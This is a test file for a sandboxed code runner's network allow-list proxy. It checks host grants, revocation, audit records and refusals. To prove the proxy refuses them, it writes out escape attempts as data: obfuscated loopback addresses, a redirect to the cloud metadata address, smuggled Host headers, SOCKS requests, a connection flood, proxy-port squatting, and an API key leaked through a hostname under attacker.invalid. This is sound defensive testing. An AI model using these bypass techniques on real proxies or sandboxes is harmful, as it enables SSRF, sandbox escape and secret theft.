//! The network as a list, from inside a real sandbox, as root and as an ordinary user.
//!
//! The forbidden target is real: a server on this machine's own loopback. Since addresses of one's
//! own network are refused, it is listed by number where it may be reached.

use crate::{
    scene::{Scene, Seen, Who, cell},
    terminal::Terminal,
};
use std::{
    collections::BTreeMap,
    io::{BufRead, BufReader, Read, Write},
    net::TcpListener,
    process::Command,
    sync::{Arc, Mutex},
    thread,
};

/// A server outside, which answers with what it has and remembers what it was asked.
pub(crate) struct Outside {
    pub(crate) port: u16,
    asked: Arc<Mutex<Vec<String>>>,
    pages: Arc<Mutex<BTreeMap<String, Vec<u8>>>>,
}

impl Outside {
    pub(crate) fn with(pages: &[(&str, &[u8])]) -> Self {
        let pages = pages.iter().map(|(path, bytes)| ((*path).to_owned(), bytes.to_vec()));
        Self::serving(|_| pages.collect())
    }

    /// The same, with pages that name its port.
    pub(crate) fn serving(pages: impl FnOnce(u16) -> BTreeMap<String, Vec<u8>>) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let pages = pages(port);
        let pages = Arc::new(Mutex::new(pages));
        let (kept, remembered) = (Arc::clone(&pages), Arc::clone(&asked));
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (pages, asked) = (pages.lock().unwrap().clone(), Arc::clone(&remembered));
                thread::spawn(move || answer(stream, &pages, &asked));
            }
        });
        Self { port, asked, pages: kept }
    }

    /// From now on it serves these bytes there.
    pub(crate) fn serves_instead(&self, path: &str, bytes: &[u8]) {
        self.pages.lock().unwrap().insert(path.to_owned(), bytes.to_vec());
    }

    fn new() -> Self {
        Self::with(&[("/hello", b"hello from outside"), ("/away", b"")])
    }

    /// The entry that lists it.
    fn listed(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }

    pub(crate) fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

fn answer(
    mut stream: std::net::TcpStream,
    pages: &BTreeMap<String, Vec<u8>>,
    asked: &Mutex<Vec<String>>,
) {
    let mut lines = BufReader::new(stream.try_clone().unwrap()).lines();
    let Some(Ok(first)) = lines.next() else { return };
    while lines.next().is_some_and(|line| line.is_ok_and(|line| !line.is_empty())) {}
    let path = first.split(' ').nth(1).unwrap_or_default().to_owned();
    asked.lock().unwrap().push(first);
    let (status, body) = match pages.get(&path) {
        Some(_) if path == "/away" => {
            ("302 Found\r\nLocation: http://169.254.169.254/latest", &vec![])
        }
        Some(body) => ("200 OK", body),
        None => ("404 Not Found", &vec![]),
    };
    let kind = if path.ends_with('/') { "text/html" } else { "application/octet-stream" };
    let head = format!(
        "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(body));
}

/// Uses the proxy through its variables as any program would, but also asks it for loopback, which
/// is the code's own.
const PROXIED: &str = r"
import os, urllib.request, urllib.error
for name in ('NO_PROXY', 'no_proxy'): os.environ.pop(name, None)
def get(url):
    try:
        return urllib.request.urlopen(url, timeout=20).read().decode()
    except urllib.error.HTTPError as error:
        return f'{error.code} {error.reason}'
    except OSError as error:
        return str(error)
";

fn run(scene: &Scene, options: &[&str], code: &str) -> Seen {
    let code = format!("{PROXIED}{code}");
    let arguments = [&["run", "-l", "python"], options, &["-c", &code]].concat();
    scene.run(&arguments)
}

/// The reachable hosts of the newest session, by its own record.
fn network_on_record(scene: &Scene) -> serde_json::Value {
    let seen = scene.run(&["history", "show", "--json"]);
    seen.of_kind("session_started")[0]["confinement"]["network"].clone()
}

#[test]
fn what_is_listed_is_reached_and_nothing_else() {
    for who in Who::all() {
        let (scene, outside, other) = (Scene::of(who), Outside::new(), Outside::new());
        let code = format!(
            "print(get('http://127.0.0.1:{}/hello'))\nprint(get('http://127.0.0.1:{}/hello'))",
            outside.port, other.port
        );
        let listed = outside.listed();
        run(&scene, &["--allow-host", &listed], &code)
            .mentions("hello from outside\n403 127.0.0.1 is a loopback address; only `--allow-host")
            .mentions(&format!("refused 127.0.0.1:{}", other.port))
            .exits(0);
        assert_eq!(outside.asked(), ["GET /hello HTTP/1.1"]);
        assert_eq!(other.asked(), Vec::<String>::new());
    }
}

#[test]
fn every_attempt_is_on_record_with_its_verdict() {
    let (scene, outside) = (Scene::new(), Outside::new());
    let listed = outside.listed();
    let code = format!(
        "for _ in range(3): get('http://127.0.0.1:{}/hello')\nget('http://files.example.org/')\n\
         get('https://files.example.org/')",
        outside.port
    );
    let seen = run(&scene, &["--json", "--allow-host", &listed], &code).exits(0);
    let effects = &seen.of_kind("effects")[0]["network"];
    assert_eq!(effects[2]["host"], "127.0.0.1");
    assert_eq!(effects[2]["port"], outside.port);
    assert_eq!(effects[2]["verdict"], "allowed");
    assert_eq!(effects[2]["count"], 3);
    assert!(effects[2]["received"].as_u64().unwrap() > 54, "{effects}");
    for (at, port) in [(0, 80), (1, 443)] {
        assert_eq!(effects[at]["host"], "files.example.org", "{effects}");
        assert_eq!(effects[at]["port"], port);
        assert_eq!(effects[at]["verdict"], "refused");
    }
    assert_eq!(network_on_record(&scene)["only"]["allow"][0], listed);
    // Nobody is there to ask, which is on record too.
    assert_eq!(seen.of_kind("host_wanted")[0]["host"], "files.example.org");
    assert_eq!(seen.of_kind("host_refused")[0]["by"], "nobody");
}

#[test]
fn without_a_list_nothing_is_reached_and_the_host_is_named() {
    for who in Who::all() {
        let scene = Scene::of(who);
        let seen = run(&scene, &[], "print(get('https://files.example.org/x'))");
        seen.mentions(
            "403 files.example.org:443 is not allowed here; `--allow-host files.example.org`",
        )
        .mentions("refused files.example.org:443")
        .exits(0);
        assert_eq!(network_on_record(&scene), "none");
    }
}

/// Ways around the list, each of which prints what it got, if anything.
const AROUND: &str = r"
import socket, http.client, os
def proxied(head):
    s = socket.create_connection(('127.0.0.1', 3128), 20)
    s.sendall(head); answer = b''
    while piece := s.recv(65536): answer += piece
    return answer
def escaped(what, answer):
    if b'hello' in answer or answer.startswith(b'HTTP/1.1 200'): print('ESCAPED', what, answer[:80])
PORT = OUTSIDE_PORT
for host in ('127.0.0.1', '127.0.0.2', 'localhost', 'LOCALHOST.', '0.0.0.0', '[::1]', '[::]', '[::ffff:127.0.0.1]',
             '[::ffff:7f00:1]', '[::127.0.0.1]', '[64:ff9b::7f00:1]', '[2002:7f00:1::]', '2130706433', '0x7f000001',
             '0x7f.1', '0177.0.0.1', '017700000001', '127.1', '169.254.169.254', '10.0.0.1', 'user@127.0.0.1',
             'allowed.example@127.0.0.1', '127.0.0.1#allowed.example', '127.0.0.1%23', 'loc%61lhost'):
    escaped(host, proxied(f'CONNECT {host}:{PORT} HTTP/1.1\r\n\r\n'.encode()))
    escaped(host, proxied(f'GET http://{host}:{PORT}/hello HTTP/1.1\r\nHost: allowed.example\r\n\r\n'.encode()))
for head in (f'GET http://allowed.example/ HTTP/1.1\r\nHost: 127.0.0.1:{PORT}\r\nHost: allowed.example\r\n\r\n',
             f'GET http://allowed.example/ HTTP/1.1\r\nX: y\nHost: 127.0.0.1:{PORT}\r\n\r\n',
             f'GET /hello HTTP/1.1\r\nHost: 127.0.0.1:{PORT}\r\n\r\n'):
    escaped(head, proxied(head.encode()))
for kind in ((b'\x01' + bytes([127, 0, 0, 1])), b'\x03\x09localhost', b'\x04' + bytes(15) + b'\x01'):
    s = socket.create_connection(('127.0.0.1', 3128), 20)
    s.sendall(b'\x05\x01\x00'); s.recv(2)
    s.sendall(b'\x05\x01\x00' + kind + PORT.to_bytes(2, 'big'))
    if s.recv(10)[1:2] == b'\x00': print('ESCAPED socks', kind)
# Without the proxy: no address, no name, no datagram, no socket of the machine outside.
for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', PORT)), (socket.AF_INET, socket.SOCK_STREAM, ('1.1.1.1', 53)),
        (socket.AF_INET, socket.SOCK_DGRAM, ('1.1.1.1', 53)), (socket.AF_INET6, socket.SOCK_STREAM, ('2606:4700:4700::1111', 53)),
        (socket.AF_UNIX, socket.SOCK_STREAM, '/run/interpreter/egress'), (socket.AF_UNIX, socket.SOCK_STREAM, '\0ABSTRACT')):
    try:
        s = socket.socket(family, kind); s.settimeout(5); s.connect(address); s.send(b'x')
        print('ESCAPED directly', address)
    except OSError:
        pass
try: print('ESCAPED resolved', socket.getaddrinfo('example.org', 443))
except OSError: pass
# Nobody else can stand where the proxy does.
for options in ((), (socket.SO_REUSEADDR,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT)):
    for address in ('127.0.0.1', '0.0.0.0'):
        s = socket.socket()
        for option in options: s.setsockopt(socket.SOL_SOCKET, option, 1)
        try:
            s.bind((address, 3128)); s.listen(); print('ESCAPED stands in', address)
        except OSError: pass
print('tried')
";

#[test]
fn no_way_around_the_list_leads_out() {
    use std::os::linux::net::SocketAddrExt;
    let name = format!("interpreter-test-{}", std::process::id());
    let address = std::os::unix::net::SocketAddr::from_abstract_name(&name).unwrap();
    let _abstract = std::os::unix::net::UnixListener::bind_addr(&address).unwrap();
    for who in Who::all() {
        for options in [&["--allow-host", "allowed.example"][..], &["--network", "open"]] {
            let (scene, outside) = (Scene::of(who), Outside::new());
            let code = AROUND
                .replace("OUTSIDE_PORT", &outside.port.to_string())
                .replace("ABSTRACT", &name);
            let arguments = [&["run", "-l", "python"], options, &["-c", &code]].concat();
            scene.run(&arguments).mentions("tried\n").lacks("ESCAPED").exits(0);
            assert_eq!(outside.asked(), Vec::<String>::new());
        }
    }
}

#[test]
fn a_redirect_into_ones_own_network_is_refused() {
    let (scene, outside) = (Scene::new(), Outside::new());
    let code = format!("print(get('http://127.0.0.1:{}/away'))", outside.port);
    run(&scene, &["--allow-host", &outside.listed()], &code)
        .mentions("403 169.254.169.254 is a link-local address")
        .exits(0);
}

#[test]
fn a_flood_of_connections_harms_nobody() {
    let (scene, outside) = (Scene::new(), Outside::new());
    let code = format!(
        "import socket, threading
held = [socket.create_connection(('127.0.0.1', 3128), 20) for _ in range(120)]
for s in held: s.sendall(b'GET http://x')
results = []
def one(): results.append(get('http://127.0.0.1:{}/hello'))
threads = [threading.Thread(target=one) for _ in range(50)]
for t in threads: t.start()
for s in held: s.close()
for t in threads: t.join()
print(set(results), len(results))",
        outside.port
    );
    run(&scene, &["--allow-host", &outside.listed()], &code)
        .prints("{'hello from outside'} 50\n")
        .exits(0);
}

#[test]
fn none_means_that_there_is_no_way_out_at_all() {
    for who in Who::all() {
        let (scene, outside) = (Scene::of(who), Outside::new());
        let config = format!("[network]\nmode = 'none'\nhosts = ['{}']\n", outside.listed());
        let scene = scene.home_file(".config/interpreter/config.toml", &config);
        let code = "import os, socket\nprint([n for n in os.environ if 'proxy' in n.lower()])\n\
                    print(os.path.exists('/run/interpreter/egress'))\n\
                    try: socket.create_connection(('127.0.0.1', 3128), 5); print('ESCAPED')\n\
                    except OSError as error: print(error)";
        scene.code("python", code).prints("[]\nFalse\n[Errno 111] Connection refused\n").exits(0);
    }
}

#[test]
fn a_project_cannot_list_a_host() {
    let scene = Scene::new().file(".interpreter/config.toml", "[network]\nhosts = ['evil.org']\n");
    scene.code("python", "1").mentions("lists `evil.org`, which you do not").exits(2);
    let scene = Scene::new().file(".interpreter/config.toml", "[network]\nmode = 'open'\n");
    scene.code("python", "1").mentions("a project may only tighten").exits(2);
}

#[test]
fn what_is_no_host_is_told_so() {
    let scene = Scene::new();
    for (host, words) in [
        ("https://me:secret@example.org/", "expected only a host"),
        ("*.org", "at least two parts"),
        ("127.1", "some programs read it as an address"),
    ] {
        let seen = scene.run(&["run", "-l", "python", "--allow-host", host, "-c", "1"]);
        seen.mentions(words).exits(2);
    }
    scene
        .run(&["run", "-l", "python", "--network", "all", "-c", "1"])
        .mentions("possible here: none, listed, open")
        .exits(2);
}

/// Asks for `localhost`, which is not listed by that name.
fn asks_for_localhost(port: u16) -> String {
    format!("{PROXIED}print(get('http://localhost:{port}/hello'))")
}

/// A connection through the proxy that stays open from cell to cell.
#[test]
fn a_granted_host_is_taken_back_and_its_connections_end() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            thread::spawn(move || {
                let mut bytes = [0; 64];
                while let Ok(count @ 1..) = stream.read(&mut bytes) {
                    stream.write_all(&bytes[..count]).unwrap();
                }
            });
        }
    });
    let place = format!("localhost:{port}");
    let connects = cell(
        "python",
        &format!(
            "import os, socket, urllib.parse\nproxy = urllib.parse.urlparse(os.environ['HTTPS_PROXY'])\n\
             s = socket.create_connection((proxy.hostname, proxy.port), 60)\n\
             s.sendall(b'CONNECT {place} HTTP/1.1\\r\\n\\r\\n')\n\
             print('status', s.recv(1000).split()[1].decode())"
        ),
    );
    let says = |word: &str| {
        let code = format!(
            "try:\n    s.sendall(b'{word}')\n    print('got', s.recv(64).decode() or 'nothing')\n\
             except OSError as error:\n    print('got nothing')"
        );
        cell("python", &code)
    };
    let [before, after] = ["ping", "pong"].map(says);
    let connect = connects.as_str();
    let replies = [connect, "A.", &before, "B.", &after, "C.", connect, "D.", connect, "E."];
    let scene = Scene::new().model_says(&replies);
    let terminal = Terminal::open(&scene, &["--allow-host", &format!("127.0.0.1:{port}")]);
    let run = || terminal.types("go").shows("Run it?").types("y");
    run().shows("Allow it?").types("s").shows("status 200").shows("A.").waits();
    terminal.types("go").shows("hosts granted in this session").shows("Run it?").types("y");
    terminal.shows("got ping").shows("B.").waits();
    terminal.types("/deny host example.org").shows("was not granted in this session").waits();
    terminal.types("/rules").shows(&format!("granted host: {place}")).waits();
    terminal.types(&format!("/deny host {place}")).shows("no longer reach this host").waits();
    terminal.types("/rules").waits().lacks("granted host");
    terminal.types("go").shows("Run it?").lacks("hosts granted").types("y");
    terminal.shows("got nothing").shows("C.").waits();
    run().shows("Allow it?").types("n").shows("status 403").shows("D.").waits();
    run().shows("Allow it?").types("a").shows("all future sessions").types("w");
    terminal.shows("status 200").shows("E.").waits();
    terminal.types(&format!("/deny host {place}")).shows("stays in your config file");
    terminal.shows("no longer reach this host").types("/quit").exits(0);
    let revoked = scene.run(&["history", "show", "--json"]).of_kind("host_revoked");
    assert_eq!((&revoked[0]["host"], &revoked[0]["port"]), (&"localhost".into(), &port.into()));
    scene.run(&["history", "show"]).mentions("taken back");
}

#[test]
fn a_person_can_grant_a_host_for_the_run_the_session_or_always() {
    let outside = Outside::new();
    let code = cell("python", &asks_for_localhost(outside.port));
    let replies = [code.as_str(), "Once.", &code, "Again.", &code, "Still.", &code, "Done."];
    let scene = Scene::new().model_says(&replies);
    let terminal = Terminal::open(&scene, &["--allow-host", &outside.listed()]);
    let wanted = format!("┆ localhost:{}", outside.port);
    let ask = |word: &str| {
        terminal
            .types("go")
            .shows("Run it?")
            .types("y")
            .shows(&wanted)
            .shows("Allow it?")
            .types(word);
    };
    ask("");
    // Enter grants nothing.
    terminal.shows("press o, s, a, n").types("o").shows("hello from outside").shows("Once.");
    ask("n");
    terminal.shows("403").shows("Again.");
    ask("s");
    terminal.shows("hello from outside").shows("Still.");
    terminal.types("go").shows("Run it?").types("y").shows("hello from outside").shows("Done.");
    terminal.lacks("Allow it?").types("/quit").exits(0);
    let seen = scene.run(&["history", "show", "--json"]);
    let granted: Vec<_> =
        seen.of_kind("host_granted").iter().map(|one| one["for"].to_string()).collect();
    assert_eq!(granted, ["\"once\"", "\"session\""]);
    assert_eq!(seen.of_kind("host_refused")[0]["by"], "person");
}

#[test]
fn what_is_granted_for_good_is_in_the_persons_own_config_file() {
    let outside = Outside::new();
    let code = cell("python", &asks_for_localhost(outside.port));
    let config = format!("# mine\n[network]\nhosts = [\"{}\"] # the server\n", outside.listed());
    let scene = Scene::new()
        .model_says(&[&code, "Done."])
        .home_file(".config/interpreter/config.toml", &config);
    let terminal = Terminal::open(&scene, &[]);
    terminal.types("go").shows("Run it?").types("y").shows("Allow it?").types("a");
    terminal.shows("Add it to your settings").types("w");
    terminal.shows("hello from outside").shows("Done.").types("/quit").exits(0);
    let kept =
        std::fs::read_to_string(scene.home().join(".config/interpreter/config.toml")).unwrap();
    assert!(kept.starts_with("# mine\n[network]\n") && kept.contains("# the server"), "{kept}");
    assert!(kept.contains(&format!("\"localhost:{}\"", outside.port)), "{kept}");
    scene.code("python", &asks_for_localhost(outside.port)).prints("hello from outside\n").exits(0);
    // It is listed with the rules, and taken back like one.
    let host = format!("localhost:{}", outside.port);
    let listed = scene.run(&["rules"]).exits(0);
    listed.mentions("Hosts that code reaches without a question:").mentions(&host);
    scene.run(&["rules", "remove", "elsewhere.example"]).mentions("has no").exits(2);
    scene.run(&["rules", "remove", &host]).mentions(&host).exits(0);
    scene.run(&["rules"]).lacks(&host).exits(0);
    let refused = scene.code("python", &asks_for_localhost(outside.port));
    assert!(!refused.stdout().contains("hello from outside"), "{}", refused.stdout());
}

fn is_red(row: &str) -> bool {
    row.starts_with("\u{1b}[0;31m❚ ")
}

#[test]
fn an_open_network_is_said_so_in_red() {
    let scene = Scene::new().model_says(&[&cell("python", "1"), "Done."]);
    let terminal = Terminal::open(&scene, &["--network", "open"]);
    terminal.types("go").shows("OPEN NETWORK").shows("Run it?").types("n").types("/quit").exits(0);
    let raw = String::from_utf8_lossy(&terminal.raw()).into_owned();
    assert!(
        raw.lines().filter(|row| is_red(row) && row.contains("OPEN NETWORK")).count() >= 2,
        "{raw}"
    );
    scene
        .run(&["run", "-l", "python", "--network", "open", "-c", "1"])
        .mentions("the network is open: code can reach every public host")
        .exits(0);
    assert!(network_on_record(&scene)["open"].is_object());
}

#[test]
fn the_model_is_told_which_host_was_refused() {
    let code = format!("{PROXIED}get('https://files.example.org/')");
    let scene = Scene::new().model_says(&[&cell("python", &code), "Then not."]);
    let seen = scene.chat(&["--yes", "--json", "go"]);
    let told = seen.of_kind("request").last().unwrap()["newest"].to_string();
    assert!(
        told.contains("[refused files.example.org:443: it is not allowed here; `--allow-host"),
        "{told}"
    );
}

/// Makes a wheel, as its bytes.
fn wheel() -> Vec<u8> {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("tiny_thing-1.0-py3-none-any.whl");
    let made = Command::new("python3")
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .arg("-c")
        .arg(
            "import sys, zipfile\n\
             with zipfile.ZipFile(sys.argv[1], 'w') as w:\n\
            \x20   w.writestr('tiny_thing.py', 'word = 42\\n')\n\
            \x20   d = 'tiny_thing-1.0.dist-info/'\n\
            \x20   w.writestr(d + 'METADATA', 'Metadata-Version: 2.1\\nName: tiny-thing\\nVersion: 1.0\\n')\n\
            \x20   w.writestr(d + 'WHEEL', 'Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
            \x20   w.writestr(d + 'RECORD', 'tiny_thing.py,,\\n' + d + 'METADATA,,\\n' + d + 'WHEEL,,\\n' + d + 'RECORD,,\\n')\n",
        )
        .arg(&path)
        .status()
        .unwrap();
    assert!(made.success());
    std::fs::read(path).unwrap()
}

#[test]
fn pip_installs_from_the_persons_own_index() {
    for who in Who::all() {
        let wheel = wheel();
        let name = "tiny_thing-1.0-py3-none-any.whl";
        let page = format!("<!DOCTYPE html><a href=\"/files/{name}\">{name}</a>");
        let file = format!("/files/{name}");
        let outside = Outside::with(&[("/simple/tiny-thing/", page.as_bytes()), (&file, &wheel)]);
        // A name and a password in the address stay outside.
        let index = format!("http://me:sk-canary@127.0.0.1:{}/simple", outside.port);
        let scene = Scene::of(who).variable("PIP_INDEX_URL", &index);
        let code = "unset NO_PROXY no_proxy; echo $PIP_INDEX_URL\n\
                    python3 -m pip install -q --no-cache-dir --disable-pip-version-check \
                    --root-user-action ignore --target /tmp/packages tiny-thing\n\
                    PYTHONPATH=/tmp/packages python3 -c 'import tiny_thing; print(tiny_thing.word)'";
        scene
            .run(&["run", "-l", "shell", "--allow-host", "python", "-c", code])
            .mentions(&format!("http://127.0.0.1:{}/simple\n42\n", outside.port))
            .lacks("canary")
            .exits(0);
        assert_eq!(outside.asked().len(), 2, "{:?}", outside.asked());
    }
}

#[test]
fn a_kind_of_packages_that_no_tool_names_is_told_so() {
    let scene = Scene::new().variable("CARGO_HOME", "/nowhere");
    scene
        .run(&["run", "-l", "python", "--allow-host", "rust", "-c", "1"])
        .mentions("`rust` is listed among the hosts, and cargo names no index")
        .mentions("hint: set one in its own settings")
        .exits(2);
}

#[test]
fn an_open_connection_is_told_in_the_run_that_uses_it() {
    let (scene, outside) = (Scene::new(), Outside::new());
    let open = format!(
        "import socket\ns = socket.create_connection(('127.0.0.1', 3128))\n\
         s.sendall(b'CONNECT 127.0.0.1:{} HTTP/1.1\\r\\n\\r\\n'); print(s.recv(100)[:12])",
        outside.port
    );
    let used = "s.sendall(b'GET /hello HTTP/1.1\\r\\n\\r\\n'); print(s.recv(1000)[-7:])";
    let (open, used) = (cell("python", &open), cell("python", used));
    let scene = {
        let listed = format!("[network]\nhosts = ['{}']\n", outside.listed());
        scene
            .model_says(&[&open, &used, "Done."])
            .home_file(".config/interpreter/config.toml", &listed)
    };
    let seen = scene.chat(&["--yes", "--json", "go"]);
    let effects = seen.of_kind("effects");
    assert_eq!(effects[0]["network"][0]["count"], 1);
    assert_eq!(effects[0]["network"][0]["sent"], 0);
    assert_eq!(effects[1]["network"][0]["count"], 0);
    assert_eq!(effects[1]["network"][0]["sent"], 23);
    assert!(effects[1]["network"][0]["received"].as_u64().unwrap() > 18);
}

/// A program that an earlier cell has left running reaches a listed host only in a run that was
/// asked about, or whose findings name it. The proxy holds that, whatever the analysis believes.
#[test]
fn a_cell_that_nobody_was_asked_about_reaches_no_listed_host_that_it_does_not_name() {
    for (mode, asks) in [("auto", true), ("ask", false)] {
        let (scene, outside) = (Scene::new(), Outside::new());
        let waits = format!(
            "import os, threading, time, urllib.request\n\
             os.environ.pop('no_proxy', None)\nos.environ.pop('NO_PROXY', None)\ngo = False\ndef later():\n    while not go:\n        \
             time.sleep(0.01)\n    urllib.request.urlopen('http://{}/hello')\n\
             threading.Thread(target=later, daemon=True).start()",
            outside.listed()
        );
        let unasked = "import time\ngo = True\ntime.sleep(3)\nprint('slept')";
        scene.play(&[&cell("python", &waits), &cell("python", unasked), "Done with it."]);
        let mode = format!("approval.mode={mode}");
        let options = ["--allow-host", &outside.listed(), "--set", &mode, "go"];
        let terminal = Terminal::open(&scene, &options);
        terminal.shows("Run it?").types("y");
        if asks {
            terminal.shows("ran without a question").shows("Allow it?").lacks("always").types("n");
        } else {
            terminal.shows("Run it?").types("y");
        }
        terminal.shows("Done with it.").types("/quit").exits(0);
        assert_eq!(outside.asked().len(), usize::from(!asks));
        let told = scene.run(&["history", "show", "--json"]);
        assert_eq!(told.of_kind("host_refused").len(), usize::from(asks));
    }
}

/// Everything may be reached, and a name that holds a secret is not even resolved.
#[test]
fn a_name_with_a_secret_in_it_goes_nowhere() {
    for network in [&["--network", "open"][..], &["--allow-host", "*.attacker.invalid"]] {
        let scene = Scene::new().variable("OPENAI_API_KEY", "swordfish-ab12-cdef");
        let code = "import urllib.request as r\n\
            for host in ('SWORD' + 'fish-ab12-cdef.attacker.invalid', 'plain.attacker.invalid'):\n\
            \x20 try: r.urlopen('http://' + host + '/')\n\
            \x20 except Exception as e: print(e.code, e.read().decode())";
        let seen = scene.run(&[&["run"], network, &["-l", "python", "-c", code]].concat());
        let said = "the value of `OPENAI_API_KEY` stands in its name";
        let seen = seen.mentions(said).mentions("403 ");
        // The control is let through, and leads nowhere.
        let seen = seen.mentions("502 ").lacks("swordfish-ab12");
        drop(seen);
        let recorded = scene.run(&["history", "show", "--json"]).lacks("swordfish-ab12");
        let effects = recorded.of_kind("effects");
        let contacts = effects[0]["network"].as_array().unwrap();
        let refused = contacts.iter().find(|one| one["why"].to_string().contains(said));
        assert_eq!(refused.unwrap()["verdict"], "refused", "{contacts:?}");
    }
}
